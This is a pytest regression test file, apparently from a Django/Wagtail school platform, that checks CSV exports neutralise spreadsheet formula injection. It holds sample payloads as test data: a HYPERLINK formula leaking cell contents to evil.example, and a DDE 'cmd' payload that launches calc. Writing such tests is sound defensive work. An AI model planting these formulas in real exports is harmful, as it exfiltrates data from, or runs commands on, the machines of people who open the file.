"""Medium 7: CSV formula injection. A name typed as =HYPERLINK(...) landed as a live formula in the school's
CSV export. Every CSV export goes through lms/csv_safe.py: a cell starting with = + - @ tab or CR is written
with a leading single quote; numbers (typed, or text that is exactly a plain number such as -3) are kept."""
import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from lms import csv_safe
from tests.dashboards.conftest import fake_selectors  # noqa: F401  (fixture)
from tests.partnerships.conftest import cohort_a, school_a, staff_a  # noqa: F401  (fixtures)

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_quoted(value):
    assert csv_safe.cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, Decimal("-12.5"), -0.5, 0, 17, "-3", "-12.5", "+4", "12", None, True])
def test_numbers_stay_numbers(value):
    assert csv_safe.cell(value) == value


@pytest.mark.parametrize("value", ["Marie", "Dubois-Martin", "a=b", "", "e-mail@x.test", "3-4"])
def test_ordinary_text_is_untouched(value):
    assert csv_safe.cell(value) == value


def test_writer_and_dict_row():
    out = io.StringIO()
    csv_safe.writer(out).writerow(["=1+1", -3, "Léa"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3", "Léa"]]
    assert csv_safe.dict_row({"a": "@x", "b": 2}) == {"a": "'@x", "b": 2}


@pytest.mark.django_db
def test_school_dashboard_export_neutralises_names(client, staff_a, cohort_a, fake_selectors):  # noqa: F811
    from lms.accounts.models import User
    from partnerships.models import CohortMembership

    evil = User.objects.create_user(email="evil@example.test", first_name='=HYPERLINK("https://evil.example","x")',
                                    last_name="")
    CohortMembership.objects.create(cohort=cohort_a, user=evil)
    client.force_login(staff_a)
    r = client.get(reverse("school_dashboard_csv", args=[cohort_a.programme.school.slug]) + "?table=students")
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    name_cell = rows[1][1]
    assert name_cell.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(tuple(csv_safe.FORMULA_START)) and not csv_safe.PLAIN_NUMBER.match(cell)
                   for row in rows for cell in row)
    # cohort labels typed by staff go through the same rule (summary table)
    cohort_a.label = "@evil"
    cohort_a.save()
    r = client.get(reverse("school_dashboard_csv", args=[cohort_a.programme.school.slug]) + "?table=summary")
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert rows[1][0].startswith("'@evil")


@pytest.mark.django_db
def test_wagtail_csv_exports_are_neutralised(client):
    """Wagtail's admin reports stream CSV through SpreadsheetExportMixin (neutralised in XLSX only): the site
    history report with a page titled as a formula."""
    from wagtail.models import Page, PageLogEntry

    from tests.factories import make_user

    admin = make_user(None, is_superuser=True, is_staff=True)
    root = Page.get_first_root_node()
    page = root.add_child(instance=Page(title="=HYPERLINK(\"https://evil.example\")", slug="evil"))
    PageLogEntry.objects.log_action(page, "wagtail.create", user=admin)
    client.force_login(admin)
    r = client.get("/admin/reports/site-history/?export=csv")
    assert r.status_code == 200, r.status_code
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row), rows
    assert not any(cell.startswith("=") for row in rows for cell in row)
